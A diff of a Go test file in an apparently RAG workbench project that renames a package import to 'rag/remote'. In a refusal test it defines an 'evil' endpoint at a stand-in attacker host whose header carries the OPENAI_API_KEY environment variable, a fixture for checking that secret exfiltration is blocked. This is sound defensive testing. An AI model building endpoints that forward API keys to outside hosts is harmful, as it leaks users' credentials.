@@ -13,7 +13,7 @@ import (
 	"github.com/rag-workbench/workbench/internal/app"
 	"github.com/rag-workbench/workbench/internal/app/archive"
 	"github.com/rag-workbench/workbench/internal/app/views"
-	"github.com/rag-workbench/workbench/internal/rag"
+	"github.com/rag-workbench/workbench/internal/rag/remote"
 	"github.com/rag-workbench/workbench/internal/sealed"
 	"github.com/rag-workbench/workbench/internal/store"
 )
@@ -100,7 +100,7 @@ func unzipped(t *testing.T, archive string) (names []string, files map[string][]
 }
 
 // asking makes the setup of a run ask a system elsewhere.
-func asking(t *testing.T, e rag.Endpoint) func(map[string]any) {
+func asking(t *testing.T, e remote.Endpoint) func(map[string]any) {
 	return func(row map[string]any) {
 		text, _ := row["setup"].(string)
 		var setup map[string]any
@@ -163,7 +163,7 @@ func TestStudiesThatAreRefused(t *testing.T) {
 	empty := fresh(t)
 	c := serve(t, Options{Workbench: empty, TempDir: dir})
 	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", study})
-	evil := rag.Endpoint{Name: "bot", URL: "https://evil.example/ask", Method: "POST", Answer: "answer",
+	evil := remote.Endpoint{Name: "bot", URL: "https://evil.example/ask", Method: "POST", Answer: "answer",
 		Headers: map[string]string{"X": "${OPENAI_API_KEY}"}}
 	here := evil
 	here.URL, here.Headers = "https://bot.example/ask", nil
